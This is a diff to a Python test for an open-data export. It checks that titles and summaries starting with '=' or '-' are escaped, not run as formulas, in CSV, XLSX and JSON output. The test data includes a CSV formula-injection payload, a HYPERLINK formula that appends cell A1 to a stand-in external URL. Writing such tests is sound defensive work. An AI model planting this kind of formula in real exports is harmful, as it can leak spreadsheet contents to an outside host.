@@ -96,10 +96,13 @@ def test_open_data_is_the_same_content_in_every_format(client, published):
 def test_open_data_cells_are_never_formulas(client, published):
     """A title such as =HYPERLINK(…) is data: escaped in the CSV (a leading apostrophe, as
     spreadsheets expect), a quote-prefixed text cell in the XLSX, unchanged in JSON."""
-    _six, _twelve, first, second = published
+    six, _twelve, first, second = published
     title = '=HYPERLINK("https://example.invalid/?"&A1,"คลิก")'
     Measure.objects.filter(pk=first.pk).update(title=title)
-    Progress.objects.filter(measure=second).update(summary="-ยังไม่เสร็จ")
+    staff = User.objects.get(username="staff-published")
+    six = round_reopen(progress_round=six, user=staff)  # in a new version, approved again
+    Progress.objects.filter(measure=second, round=six).update(summary="-ยังไม่เสร็จ")
+    approve_round(six, submitter=staff)
     data, rows_csv, _rows = formats(client)
     assert data["rows"][0]["title"] == title
     assert rows_csv[0]["title"] == "'" + title
